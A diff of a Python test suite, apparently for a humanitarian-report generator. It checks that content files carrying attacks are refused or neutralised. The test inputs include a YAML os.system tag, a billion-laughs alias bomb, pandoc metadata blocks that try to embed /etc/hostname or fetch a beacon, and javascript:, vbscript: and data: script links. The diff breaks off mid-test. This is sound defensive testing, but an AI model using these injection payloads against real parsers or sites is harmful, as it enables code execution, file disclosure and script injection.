@@ -1,489 +1,457 @@
-"""Attacks through content files and the command line only: each is refused with its file and
-line, or built with nothing of it in any output it may not reach."""
+"""The adversarial suite (issue #15): content files written by an attacker, and what must hold.
+
+Each section is one layer of defence; each test builds (or renders) content that carries an
+attack and asserts what a reader of the outputs would check: the public files hold nothing the
+build did not make, their links run nothing, and a refusal names its file and line.
+"""
 
 from __future__ import annotations
 
+import copy
+import csv
 import datetime as dt
+import hashlib
+import html
+import http.client
+import http.server
+import io
 import json
-import shutil
-import time
+import re
+import threading
+import zipfile
+from collections.abc import Iterator
+from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any, ClassVar
 
+import markdown as python_markdown
 import pytest
 import yaml
-from click.testing import CliRunner, Result
+from docx import Document as open_docx
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 
 from generator.audience import Audience, view
-from generator.cli import main
+from generator.build import build, build_site, docx_meta, export_hxl
+from generator.charts import write_charts
 from generator.documents import DOCUMENTS
-from generator.errors import display_path
+from generator.errors import ProtdocsError
+from generator.mdtext import safe_markdown
 from generator.render import BuildInfo, render
-from generator.validate import load_and_validate
-from tests.conftest import EXAMPLE, line_of, replace_in
+from generator.serve import Preview, is_local_host
+from generator.site import page_problems, sanitise_site, site_markdown
+from generator.validate import validated
+from generator.writers.docx import write_docx
+from tests.conftest import EXAMPLE, replace_in
+
+# -- pandoc, Markdown and HTML -------------------------------------------------------------------
+
+ALLOWED_SCHEMES = ("http", "https", "mailto")
+EXAMPLE_DATE = dt.date(2027, 3, 1)
+_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)
 
 
-# -- content files (YAML, names, what commands print) ---------------------------------------------
-def _run(runner: CliRunner, *args: str) -> Result:
-    return runner.invoke(main, list(args))
+def scheme_allowed(url: str) -> bool:
+    """A browser's reading of a URL: it drops ASCII tabs, line breaks and leading controls."""
+    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip("\x00- ")
+    match = _SCHEME.match(cleaned)
+    return match is None or match.group(1).lower() in ALLOWED_SCHEMES
 
 
-def _validate(runner: CliRunner, content: Path, *extra: str) -> Result:
-    return _run(runner, "validate", "--content", str(content), *extra)
+class _Links(HTMLParser):
+    """Every URL-bearing attribute and every on* attribute of a page."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.urls: list[str] = []
+        self.handlers: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.handlers.append(f"<{tag} {name}>")
+            elif name in {"href", "src", "action", "formaction", "xlink:href", "poster"}:
+                self.urls.append(value or "")
 
 
-def _refused(result: Result) -> str:
-    """The content was refused as a drafter's mistake, never as a crash of the tool."""
-    assert result.exit_code == 1, result.output
-    assert "unexpected failure" not in result.output
-    assert "Traceback" not in result.output
-    return result.output
+def links_of(markup: str) -> _Links:
+    parser = _Links()
+    parser.feed(markup)
+    parser.close()
+    return parser
 
 
-# A strictly-confidential witness: no command may ever print this name.
-WITNESS = "Zebulon Quartermaine"
-# A confidential passage: printed only when an analyst asks for the internal audience.
-CONFIDENTIAL_WORDS = "quiet meeting with the brigade commander in Velm"
-
-# ---- free text naming a non-public actor ----
-NCHR = "Norvanian Commission for Human Rights"  # partners.yaml: internal
-TLF_HIGHLANDS = "Tarvan Liberation Front (TLF) highland sectors"  # a threat actor of T2
+def bad_links(markup: str) -> list[str]:
+    links = links_of(markup)
+    return [u for u in links.urls if not scheme_allowed(u)] + links.handlers
 
 
-@pytest.mark.parametrize(
-    ("file", "old", "new", "path"),
-    [
-        (  # a public action's lead, written in another case and punctuation
-            "strategic-objectives.yaml",
-            'lead: "Office of the Humanitarian Coordinator"',
-            'lead: "NORVANIAN commission for human-rights."',
-            "strategic_objectives[SO1].actions[A2].lead",
-        ),
-        (  # one of a public action's support names
-            "strategic-objectives.yaml",
-            'support: [nrc, "Shelter/NFI and CCCM clusters"]',
-            f'support: [nrc, "{NCHR}"]',
-            "strategic_objectives[SO1].actions[A3].support[1]",
-        ),
-        (  # a member of the (public) analysis team
-            "analysis.yaml",
-            'members: [nrc, unicef, irc, nwsn, ohchr, "Inter-Cluster Coordination Group"',
-            f'members: [nrc, unicef, irc, nwsn, ohchr, "{NCHR}"',
-            "analysis_team.members[5]",
-        ),
-    ],
-)
-def test_a_non_public_partner_typed_as_free_text_is_refused(
-    runner: CliRunner, content: Path, file: str, old: str, new: str, path: str
+def sha256(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def word_parts(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as docx:
+        return {name: docx.read(name) for name in docx.namelist()}
+
+
+def media_of(path: Path) -> dict[str, bytes]:
+    return {n: d for n, d in word_parts(path).items() if n.startswith("word/media/")}
+
+
+def external_targets(path: Path) -> list[str]:
+    """The targets of every external relationship of a Word file (hyperlinks, linked files)."""
+    targets = []
+    for name, data in word_parts(path).items():
+        if name.endswith(".rels"):
+            text = data.decode("utf-8")
+            for rel in re.findall(r"<Relationship [^>]*>", text):
+                if 'TargetMode="External"' in rel:
+                    targets.append(re.search(r'Target="([^"]*)"', rel).group(1))  # type: ignore[union-attr]
+    return targets
+
+
+def title_paragraphs(path: Path) -> list[str]:
+    return [
+        p.text for p in open_docx(str(path)).paragraphs if p.style.name in {"Title", "Subtitle"}
+    ]
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    requests: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        type(self).requests.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """A web server on this machine that records what it was asked for."""
+    _Recorder.requests = []
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.requests
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def metadata_block(*images: str) -> str:
+    """Issue #15, class 1: a YAML metadata block inside a text field, its ``!`` written as the
+    YAML escape ``\\x21`` so that no ``![`` reaches the sanitiser, forming images of files."""
+    title = " ".join(f"\\x21[leak]({target})" for target in images)
+    return f'\n  ---\n  title: "Hijacked {title}"\n  ---\n\n  After the block.\n'
+
+
+def test_pandoc_metadata_block_in_public_text_embeds_nothing(
+    content: Path, tmp_path: Path, listener: tuple[str, list[str]]
 ) -> None:
-    line = replace_in(content / file, old, new)
-    output = _refused(_validate(runner, content))
-    partner = line_of(content / "partners.yaml", "- id: nchr")
-    where = f"{display_path(content / 'partners.yaml')}:{partner}"
-    assert (
-        f"{file}:{line}: {path}: this free text is the name of partner 'nchr' (internal, {where})"
-        in output
-    ), output
-    assert "Write the id nchr instead" in output
-
-
-def test_the_partner_id_still_works_and_names_it_only_where_it_may_be_read(
-    runner: CliRunner, content: Path
-) -> None:
-    replace_in(
-        content / "strategic-objectives.yaml",
-        'support: [nrc, "Shelter/NFI and CCCM clusters"]',
-        "support: [nrc, nchr]",
-    )
-    result = _validate(runner, content)
-    assert result.exit_code == 0, result.output
-    loaded = load_and_validate(content)
-    public = json.dumps(view(loaded, Audience.PUBLIC), ensure_ascii=False)
-    internal = view(loaded, Audience.INTERNAL)
-    a3 = internal["index"]["A3"]
-    assert NCHR not in public
-    assert a3["support"] == ["Norwegian Refugee Council", NCHR]
-
-
-def test_a_threat_actor_typed_in_a_public_item_is_refused(runner: CliRunner, content: Path) -> None:
-    path = content / "analysis.yaml"
-    line = replace_in(
-        path,
-        'locations: ["Upper Tarvan: Sarnow, Dravo and Hesk districts", "Marisk: Velm district"]',
-        'locations: ["Upper Tarvan: Sarnow, Dravo and Hesk districts", '
-        '"tarvan liberation front, TLF, highland sectors"]',
-    )
-    output = _refused(_validate(runner, content))
-    actor = line_of(path, TLF_HIGHLANDS)
-    assert f"analysis.yaml:{line}: threats[T1].locations[1]: this free text is the name of a " in (
-        output
-    )
-    assert "threat actor of threat 'T2' (confidential, " in output
-    assert f"analysis.yaml:{actor}): typed out, it is printed wherever this public item goes" in (
-        output
-    )
-    assert "Do not name the actor here" in output
-    assert "tarvan liberation front" not in output.lower()
-
-
-def test_a_threat_actor_named_in_an_item_as_strict_as_itself_is_fine(
-    runner: CliRunner, content: Path
-) -> None:
-    # A4 is a confidential action: the actor is confidential too, no reader of A4 learns more.
-    replace_in(
-        content / "strategic-objectives.yaml",
-        'lead: "OCHA Humanitarian Civil-Military Coordination Unit"',
-        f'lead: "{TLF_HIGHLANDS}"',
-    )
-    result = _validate(runner, content)
-    assert result.exit_code == 0, result.output
-
-
-def test_a_strictly_confidential_name_is_refused_without_being_printed(
-    runner: CliRunner, content: Path
-) -> None:
-    replace_in(
-        content / "partners.yaml",
-        "partners:\n",
-        "partners:\n"
-        "  - id: witness-group\n"
-        "    classification: strictly-confidential\n"
-        f'    name: "{WITNESS}"\n'
-        "    type: other\n",
-    )
-    line = replace_in(
-        content / "strategic-objectives.yaml",
-        'lead: "Office of the Humanitarian Coordinator"',
-        f'lead: "{WITNESS.upper()}"',
-    )
-    output = _refused(_validate(runner, content))
-    assert f"strategic-objectives.yaml:{line}: " in output
-    assert "partner 'witness-group' (strictly-confidential, " in output
-    assert WITNESS.lower() not in output.lower()
-
-
-# ---- what commands print ----
-def _with_secrets(content: Path) -> None:
-    """S6 (strictly confidential) and A4 (confidential) given per language, French missing."""
-    replace_in(content / "operation.yaml", "languages: [en]", "languages: [en, fr]")
-    analysis = content / "analysis.yaml"
-    replace_in(
-        analysis,
-        'name: "Trusted-informant network of nine',
-        f'name: {{en: "{WITNESS}, trusted informant:',
-    )
-    text = analysis.read_text(encoding="utf-8")
-    start = text.index(f'name: {{en: "{WITNESS}')
-    end = text.index("\n", start)
-    analysis.write_text(text[:end] + "}" + text[end:], encoding="utf-8")
-    replace_in(
-        content / "strategic-objectives.yaml",
-        'verification: "Session attendance sheets; acknowledgement messages from the '
-        "command's operations centre.\"",
-        f'verification: {{en: "{CONFIDENTIAL_WORDS}"}}',
-    )
-
-
-def test_validate_never_quotes_a_value_of_a_strictly_confidential_item(
-    runner: CliRunner, content: Path
-) -> None:
-    path = content / "analysis.yaml"
-    type_line = replace_in(
-        path,
-        "    type: affected-people\n    date: 2026-12-10",
-        f'    type: "{WITNESS}"\n    date: "{WITNESS} 2026"\n    "{WITNESS}": seen at the gate',
-    )
-    output = _refused(_validate(runner, content))
-    for line in (type_line, type_line + 1, type_line + 2):
-        assert f"analysis.yaml:{line}: " in output, output
-    assert "a value of a strictly-confidential item (not shown)" in output
-    assert "zebulon" not in output.lower()
-
-
-def test_translations_list_public_texts_unless_internal_is_asked_and_never_strict(
-    runner: CliRunner, content: Path
-) -> None:
-    _with_secrets(content)
-    public = _run(runner, "translations", "--missing", "--content", str(content))
-    assert public.exit_code == 0, public.output
-    assert "Norvania enters 2027" in public.output  # the public context is listed
-    assert CONFIDENTIAL_WORDS not in public.output
-    assert "text(s) of the internal documents, not listed: --audience internal" in public.output
-    internal = _run(
-        runner, "translations", "--missing", "--audience", "internal", "--content", str(content)
-    )
-    assert internal.exit_code == 0, internal.output
-    assert CONFIDENTIAL_WORDS in internal.output
-    for result in (public, internal):
-        assert "zebulon" not in result.output.lower()
-    helped = _run(runner, "translations", "--help").output
-    assert "--audience internal adds the" in " ".join(helped.split())
-    assert "Strictly-confidential texts are never listed" in " ".join(helped.split())
-
-
-@pytest.mark.parametrize("output_format", ["table", "json", "markdown"])
-def test_assess_never_prints_strictly_confidential_text_or_ids(
-    runner: CliRunner, content: Path, output_format: str
-) -> None:
-    _with_secrets(content)
-    replace_in(content / "analysis.yaml", "  - id: S6\n", "  - id: zebulon-source\n")
-    result = _run(runner, "assess", "--format", output_format, "--content", str(content))
-    assert result.exit_code == 0, result.output
-    assert "zebulon" not in result.output.lower()
-    assert CONFIDENTIAL_WORDS not in result.output  # ids and fixed wording only
-
-
-def test_diff_prints_confidential_wording_only_when_asked_and_strict_never(
-    runner: CliRunner, content: Path, tmp_path: Path
-) -> None:
-    old = tmp_path / "old"
-    _with_secrets(content)
-    shutil.copytree(content, old)
-    replace_in(content / "analysis.yaml", f"{WITNESS}, trusted informant", f"{WITNESS}, informant")
-    replace_in(content / "strategic-objectives.yaml", "quiet meeting", "discreet meeting")
-    public = _run(runner, "diff", str(old), str(content))
-    assert public.exit_code == 0, public.output
-    assert "**A4** (action, strategic-objectives.yaml, confidential)" in public.output
-    assert "verification.en: changed (confidential, not shown: --audience internal shows it)" in (
-        public.output
-    )
-    assert "brigade commander" not in public.output
-    internal = _run(runner, "diff", "--audience", "internal", str(old), str(content))
-    assert internal.exit_code == 0, internal.output
-    assert "verification.en: [-quiet-] {+discreet+} meeting with the brigade" in internal.output
-    for result in (public, internal):
-        assert "zebulon" not in result.output.lower()
-        assert "S6" not in result.output
-
-
-# ---- odd but valid YAML ----
-RISK_FIGURE = "    people_at_risk: 212000"
-ODD_YAML = {
-    "binary": (RISK_FIGURE, "    people_at_risk: !!binary MjEyMDAw", "the YAML tag !!binary"),
-    "nan": (RISK_FIGURE, "    people_at_risk: .nan", "expected a whole number, got '.nan'"),
-    "inf": (RISK_FIGURE, "    people_at_risk: -.inf", "expected a whole number, got '-.inf'"),
-    "set": (
-        "    legal_frameworks: [IHL, IHRL]",
-        "    legal_frameworks: !!set {IHL, IHRL}",
-        "the YAML tag !!set is not allowed",
-    ),
-    "omap": (
-        "    legal_frameworks: [IHL, IHRL]",
-        "    legal_frameworks: !!omap [{IHL: 1}]",
-        "the YAML tag !!omap is not allowed",
-    ),
-    "pairs": (
-        "    legal_frameworks: [IHL, IHRL]",
-        "    legal_frameworks: !!pairs [{IHL: 1}]",
-        "the YAML tag !!pairs is not allowed",
-    ),
-    "sequence key": (
-        RISK_FIGURE,
-        "    [people, at, risk]: 212000",
-        "a key must be a plain word (a field name or a language code), not a list",
-    ),
-    "mapping key": (
-        RISK_FIGURE,
-        "    {people: at risk}: 212000",
-        "a key must be a plain word (a field name or a language code), not a mapping",
-    ),
-    "timestamp as text": (
-        'title: "Attacks on civilians and civilian objects in Upper Tarvan and Marisk"',
-        "title: !!timestamp 2027-01-01",
-        "the YAML tag !!timestamp is not allowed",
-    ),
-    "tag on the wrong node": (RISK_FIGURE, "    people_at_risk: !!map 212000", "does not fit"),
-    "explicit int": (
-        RISK_FIGURE,
-        "    people_at_risk: !!int many",
-        "'many' cannot be read as a whole number",
-    ),
-    "explicit bool": (
-        "    articulated_by_affected_people: true",
-        "    articulated_by_affected_people: !!bool perhaps",
-        "'perhaps' cannot be read as true or false",
-    ),
-    "alias inside itself": (
-        RISK_FIGURE,
-        "    people_at_risk: &loop [*loop]",
-        "an alias (*name) is used inside the very item its anchor (&name) marks",
-    ),
-    "number too long": (
-        RISK_FIGURE,
-        "    people_at_risk: " + "9" * 5000,
-        "expected a whole number, got '99999",
-    ),
-    "python": (
-        RISK_FIGURE,
-        '    people_at_risk: !!python/object/apply:os.system ["touch pwned"]',
-        "the YAML tag !!python/object/apply:os.system is not allowed",
-    ),
-    "control character": (RISK_FIGURE, "    people_at_risk: 212000\x07", "U+0007 is not allowed"),
-}
-
-
-@pytest.mark.parametrize("case", list(ODD_YAML))
-def test_odd_yaml_is_refused_with_file_and_line(
-    runner: CliRunner, content: Path, case: str
-) -> None:
-    old, new, message = ODD_YAML[case]
-    line = replace_in(content / "analysis.yaml", old, new)
-    output = _refused(_validate(runner, content))
-    assert message in output
-    assert any(
-        f"analysis.yaml:{line}: " in row and message in row for row in output.splitlines()
-    ), output
-    assert not Path("pwned").exists()
-
-
-def test_an_indicator_value_of_infinity_is_refused(runner: CliRunner, content: Path) -> None:
-    line = replace_in(
-        content / "monitoring.yaml",
-        "{period: 2027-H1, value: 512,",
-        "{period: 2027-H1, value: .inf,",
-    )
-    output = _refused(_validate(runner, content))
-    assert f"monitoring.yaml:{line}: " in output and "expected a number, got '.inf'" in output
-
-
-def test_build_refuses_odd_yaml_the_same_way(
-    runner: CliRunner, content: Path, tmp_path: Path
-) -> None:
-    replace_in(content / "analysis.yaml", RISK_FIGURE, "    [people, at, risk]: 212000")
-    result = _run(runner, "build", "--content", str(content), "--out", str(tmp_path / "out"))
-    output = _refused(result)
-    assert "analysis.yaml:" in output and "a key must be a plain word" in output
-    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").rglob("*.docx"))
-
-
-@pytest.mark.parametrize(
-    ("new", "message"),
-    [
-        ("classification: !!binary cHVibGlj", "the YAML tag !!binary is not allowed"),
-        ("classification: &c [*c]", "an alias (*name) is used inside the very item"),
-    ],
-)
-def test_a_table_sidecar_is_read_as_plainly(
-    runner: CliRunner, content: Path, new: str, message: str
-) -> None:
-    line = replace_in(content / "data" / "people-in-need.meta.yaml", "classification: public", new)
-    output = _refused(_validate(runner, content))
-    assert f"people-in-need.meta.yaml:{line}: {message}" in output
-
-
-def _laughs(levels: int = 12) -> str:
-    lines = ['lol0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
-    for n in range(1, levels):
-        lines.append(f"lol{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]")
-    lines.append(f"indicators: *a{levels - 1}")
-    return "\n".join(lines) + "\n"
-
-
-def test_a_billion_laughs_file_is_refused_in_well_under_a_second(
-    runner: CliRunner, content: Path
-) -> None:
-    bomb = _laughs()
-    assert len(bomb.encode()) < 2048  # expands to 10^12 values
-    (content / "monitoring.yaml").write_text(bomb, encoding="utf-8")
-    started = time.perf_counter()
-    output = _refused(_validate(runner, content))
-    elapsed = time.perf_counter() - started
-    assert "monitoring.yaml:1: the aliases (*name) in this file would repeat its values" in output
-    assert elapsed < 1.0, f"{elapsed:.2f} s"
-
-
-def test_aliases_reused_a_few_times_are_fine(runner: CliRunner, content: Path) -> None:
-    path = content / "strategic-objectives.yaml"
-    replace_in(
-        path,
-        "timeframe: {start: 2027-01, end: 2027-12}",
-        "timeframe: &year {start: 2027-01, end: 2027-12}",
-    )
-    text = path.read_text(encoding="utf-8")
-    path.write_text(
-        text.replace("timeframe: {start: 2027-01, end: 2027-12}", "timeframe: *year"),
-        encoding="utf-8",
-    )
-    result = _validate(runner, content)
-    assert result.exit_code == 0, result.output
-
-
-# ---- the operation id ----
-@pytest.mark.parametrize(
-    ("written", "message"),
-    [
-        ('"norvania-2027\\n"', "is not a valid id"),
-        ('"norvania-2027\\r"', "is not a valid id"),
-        ('"../norvania-2027"', "is not a valid id"),
-        ('"norvania/2027"', "is not a valid id"),
-        ("Norvania-2027", "the operation id 'Norvania-2027' is not a slug"),
-        ("norvania.2027.", "the operation id 'norvania.2027.' is not a slug"),
-    ],
-)
-def test_an_operation_id_outside_a_safe_slug_is_refused(
-    runner: CliRunner, content: Path, written: str, message: str
-) -> None:
-    line = replace_in(content / "operation.yaml", "id: norvania-2027", f"id: {written}")
-    output = _refused(_validate(runner, content))
-    assert f"operation.yaml:{line}: id: " in output and message in output, output
-
-
-def test_an_item_id_ending_in_a_newline_is_refused(runner: CliRunner, content: Path) -> None:
-    line = replace_in(content / "analysis.yaml", "  - id: D1\n", '  - id: "D1\\n"\n')
-    output = _refused(_validate(runner, content))
-    assert f"analysis.yaml:{line}: " in output and "is not a valid id" in output
-
-
-# ---- a file-level classification: public ----
-def test_a_file_level_public_classification_is_a_warning(runner: CliRunner, content: Path) -> None:
-    path = content / "monitoring.yaml"
-    path.write_text("classification: public\n" + path.read_text(encoding="utf-8"))
-    result = _validate(runner, content)
-    assert result.exit_code == 0, result.output
-    assert (
-        "monitoring.yaml:1: warning: classification: 'public' as the default makes every "
-        "unmarked item of this file public"
-    ) in result.output
-    assert "mark each public item with classification: public" in result.output
-    strict = _validate(runner, content, "--strict")
-    assert strict.exit_code == 1
-
-
-def test_a_public_operation_default_is_a_warning(runner: CliRunner, content: Path) -> None:
-    line = replace_in(
-        content / "operation.yaml",
-        "default_classification: internal",
-        "default_classification: public",
-    )
-    result = _validate(runner, content)
-    assert result.exit_code == 0, result.output
-    assert (
-        f"operation.yaml:{line}: warning: default_classification: 'public' as the default "
-        "makes every unmarked item of every file public"
-    ) in result.output
-
-
-def test_the_example_marks_its_public_items_one_by_one(runner: CliRunner) -> None:
-    for path in sorted(EXAMPLE.glob("*.yaml")):
-        top = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
-        assert top.get("classification") != "public", path.name
-        assert top.get("default_classification") != "public", path.name
-    result = _validate(runner, EXAMPLE)
-    assert result.exit_code == 0 and "warning:" not in result.output, result.output
-    # Its own text, marked on its own, still opens the public HNO analysis.
-    public = view(load_and_validate(EXAMPLE), Audience.PUBLIC)
-    hno = next(doc for doc in DOCUMENTS if doc.slug == "hno-protection-analysis")
-    markdown = render(hno, public, BuildInfo(dt.date(2027, 1, 15), "test"))
-    assert "Norvania enters 2027 facing two overlapping crises" in markdown
-
-
-def test_an_item_added_unmarked_to_the_example_stays_internal(content: Path) -> None:
+    url, requests = listener
+    out = tmp_path / "build"
+    first = build(content, out)
+    op_dir = first.op_dir
+    plan = op_dir / "internal" / "hct-protection-action-plan.docx"
+    assert plan.is_file()
+    hno = op_dir / "public" / "hno-protection-analysis.docx"
+    titles = title_paragraphs(hno)
     replace_in(
         content / "analysis.yaml",
-        "drivers:\n",
-        'drivers:\n  - id: D99\n    text: "Newly added driver nobody has classified yet"\n',
+        "  internally displaced, over half of them in informal sites with no security of tenure.\n",
+        "  internally displaced, over half of them in informal sites with no security of tenure.\n"
+        + metadata_block(str(plan.resolve()), f"{url}/beacon.png", "/etc/hostname"),
     )
-    loaded = load_and_validate(content)
-    assert not loaded.errors, loaded.errors
-    public = json.dumps(view(loaded, Audience.PUBLIC), ensure_ascii=False)
-    assert "Newly added driver" not in public
-    assert "Newly added driver" in json.dumps(view(loaded, Audience.INTERNAL))
+
+    build(content, out)
+
+    charts = {sha256(p.read_bytes()) for p in (op_dir / "public").rglob("*.png")}
+    plan_bytes = plan.read_bytes()
+    for word in (op_dir / "public").rglob("*.docx"):
+        for name, data in word_parts(word).items():
+            assert not data.startswith(b"PK"), f"{word.name} embeds a zip file as {name}"
+            assert plan_bytes not in data
+        assert {sha256(d) for d in media_of(word).values()} <= charts, word.name
+    assert media_of(hno), "the HNO's own chart is still embedded"
+    assert title_paragraphs(hno) == titles  # the block did not replace the title
+    assert "Hijacked" not in word_parts(hno)["docProps/core.xml"].decode("utf-8")
+    assert requests == []  # nothing was fetched during the build
+
+
+# The Markdown and HTML that content text may try: block openers of pandoc and Python-Markdown,
+# YAML escapes, raw HTML, link and image syntax with unsafe targets.
+_PIECES = st.sampled_from(
+    [
+        "-", ":", "!", "[", "]", "(", ")", "<", ">", "{", "}", "\r", "\n", "\\x21", "\\x3a", "`",
+        "|", "^", "~", "@", "=", "---\n", "...\n", ":::", "!!!", "#", "*", "_", "&", ";",
+        "\\", '"', "'", " ", "a", "javascript:alert(1)", "file:///etc/hostname",
+        "data:text/html,x", "/etc/hostname", "http://127.0.0.1:9/x.png", "title: ",
+        "{=openxml}", "{.x}", "<script>", "<a href=x>", "&#58;", "&#x21;", "[x]: ", "](",
+    ]
+)  # fmt: skip
+_SOUP = st.lists(_PIECES, max_size=12).map("".join)
+_TARGETS = st.sampled_from(
+    ["/etc/hostname", "file:///etc/hostname", "http://127.0.0.1:9/x.png", "javascript:alert(1)"]
+)
+# Whole constructs, so that the few examples a fast test can afford try each of them.
+_BLOCKS = st.one_of(
+    st.builds(lambda a, t: f'\n\n---\ntitle: "{a}\\x21[x]({t})"\n---\n\n', _SOUP, _TARGETS),
+    st.builds(lambda a, t: f"\n\n::: {{custom-style={a}}}\n![x]({t})\n:::\n", _SOUP, _TARGETS),
+    st.builds(lambda a, t: f"{a}\r[x]: {t}\n\n[y][x]", _SOUP, _TARGETS),
+    st.builds(lambda a, t: f"\n\n> - [x]:\n  {t}\n\n[x]{a}", _SOUP, _TARGETS),
+    st.builds(
+        lambda a, t: f"[{a}](<{t}>) ![{a}]({t}){{width=1cm}} `{a}`{{=openxml}}", _SOUP, _TARGETS
+    ),
+)
+HOSTILE_TEXT = st.lists(st.one_of(_PIECES, _BLOCKS), min_size=1, max_size=30).map("".join)
+ISSUE_PAYLOAD = 'Intro.\n\n---\ntitle: "Hijacked \\x21[x](/etc/hostname)"\n---\n\nAfter.'
+
+
+class _Setup(dict[str, Any]):
+    """A short repr: hypothesis prints the arguments of a failing example, fixtures too."""
+
+    def __repr__(self) -> str:
+        return "<the example's public HNO, its charts and clean Word file>"
+
+
+@pytest.fixture(scope="module")
+def hno_setup(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    """The example's public view, the HNO and its charts drawn once, its clean Word file."""
+    content = validated(EXAMPLE)
+    public = view(content, Audience.PUBLIC)
+    doc = next(d for d in DOCUMENTS if d.slug == "hno-protection-analysis")
+    folder = tmp_path_factory.mktemp("hno")
+    charts = write_charts(doc.charts, public, folder)
+    info = BuildInfo(EXAMPLE_DATE, "test")
+    meta = docx_meta(content, info, doc)
+    clean = folder / "clean.docx"
+    write_docx(render(doc, public, info), clean, meta, folder)
+    return _Setup(
+        view=public,
+        doc=doc,
+        folder=folder,
+        charts={sha256(p.read_bytes()) for p in charts},
+        info=info,
+        meta=meta,
+        titles=title_paragraphs(clean),
+    )
+
+
+def hostile_view(setup: dict[str, Any], text: str) -> dict[str, Any]:
+    """The public view with the text in public text fields, as the audience filter gives it."""
+    hostile = copy.deepcopy(setup["view"])
+    hostile["analysis"]["context"] = safe_markdown(text)
+    hostile["analysis"]["drivers"][0]["text"] = safe_markdown(text)
+    return hostile
+
+
+@settings(
+    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(text=HOSTILE_TEXT)
+@example(text=ISSUE_PAYLOAD)
+def test_metacharacters_in_public_text_reach_no_output_as_syntax(
+    hno_setup: dict[str, Any], tmp_path: Path, text: str
+) -> None:
+    setup = hno_setup
+    markdown = render(setup["doc"], hostile_view(setup, text), setup["info"])
+    target = tmp_path / f"{sha256(text.encode())[:12]}.docx"
+    try:
+        write_docx(markdown, target, setup["meta"], setup["folder"])
+    except ProtdocsError as exc:  # a refusal is fine, if it says what happened
+        assert str(exc).strip()
+        return
+    media = media_of(target)
+    assert media and {sha256(d) for d in media.values()} <= setup["charts"]
+    assert all(scheme_allowed(t) for t in external_targets(target)), external_targets(target)
+    assert title_paragraphs(target) == setup["titles"]
+    # The site reads the same Markdown: before any cleaning, no link runs anything...
+    page = python_markdown.markdown(
+        site_markdown(markdown), extensions=["tables", "admonition", "toc"]
+    )
+    assert bad_links(page) == []
+    assert "<script" not in page.lower()
+
+
+def test_syntax_beyond_the_content_format_is_text_in_word_and_on_the_site(
+    hno_setup: dict[str, Any], tmp_path: Path
+) -> None:
+    """Fenced divs and code blocks, admonitions, raw blocks and footnotes are what pandoc or
+    Python-Markdown would read as structure: a reader sees them as typed, in both (a footnote
+    is no footnote)."""
+    text = (
+        "Intro[^n1] here.\n\n[^n1]: Footnote words.\n\n::: Title\nDiv words\n:::\n\n"
+        '!!! danger "Box"\n    Admonition words\n\n```{=openxml}\n<w:p>Raw words</w:p>\n```\n'
+    )
+    setup = hno_setup
+    markdown = render(setup["doc"], hostile_view(setup, text), setup["info"])
+    target = tmp_path / "syntax.docx"
+    write_docx(markdown, target, setup["meta"], setup["folder"])
+    word = open_docx(str(target))
+    body = "\n".join(p.text for p in word.paragraphs)
+    assert ":::" in body and "!!!" in body and "Raw words" in body
+    # No footnote: what would be one is at most an ordinary (relative) link.
+    assert all(p.style.name != "Title" for p in word.paragraphs if "Div words" in p.text)
+    assert "Footnote words" not in word_parts(target).get("word/footnotes.xml", b"").decode()
+    page = python_markdown.markdown(
+        site_markdown(markdown), extensions=["tables", "admonition", "toc"]
+    )
+    assert 'class="admonition' not in page and "Admonition words" in page
+    shown = html.unescape(re.sub(r"<[^>]+>", "", page))
+    assert ":::" in shown and "!!!" in shown and "Div words" in shown
+
+
+LINK_ATTACK = (
+    "Read [the annex][a] and [this][b], [that][c], [more][d].\r"
+    "[a]: javascript:alert(document.domain)\n\n"
+    "> [b]: javascript:alert(2)\n\n"
+    "- [c]: JaVaScRiPt:alert(3)\n\n"
+    "[d]:\n  vbscript:msgbox(4)\n\n"
+    "[inline](java\nscript:alert(5)) and [data](data:text/html;base64,PHNjcmlwdD4=)\n\n"
+)
+
+
+def _attack_links(content: Path) -> None:
+    """Issue #15, class 3: script links hidden from a line-based sanitiser, in the public
+    context and, for the internal preview, in an internal driver."""
+    path = content / "analysis.yaml"
+    analysis = yaml.safe_load(path.read_text(encoding="utf-8"))
+    analysis["context"] = LINK_ATTACK + analysis["context"]
+    internal = next(d for d in analysis["drivers"] if d["classification"] == "internal")
+    internal["text"] = "See [here][z].\n\n> [z]: javascript:alert(6)\n\n" + internal["text"]
+    path.write_text(yaml.safe_dump(analysis, allow_unicode=True, sort_keys=False), "utf-8")
+
+
+def _site_html(site: Path) -> dict[Path, str]:
+    return {p: p.read_text(encoding="utf-8") for p in site.rglob("*.html")}
+
+
+@pytest.mark.parametrize("audience", [Audience.PUBLIC, Audience.INTERNAL])
+def test_script_links_in_content_give_no_script_href(
+    content: Path, tmp_path: Path, audience: Audience
+) -> None:
+    _attack_links(content)
+    written = yaml.safe_load((content / "analysis.yaml").read_text(encoding="utf-8"))
+    assert "\r[a]: javascript:" in written["context"]  # the attack is in the content as written
+    result = build_site(content, tmp_path / "out", audience)
+    site = result.op_dir / ("site" if audience is Audience.PUBLIC else "site-internal")
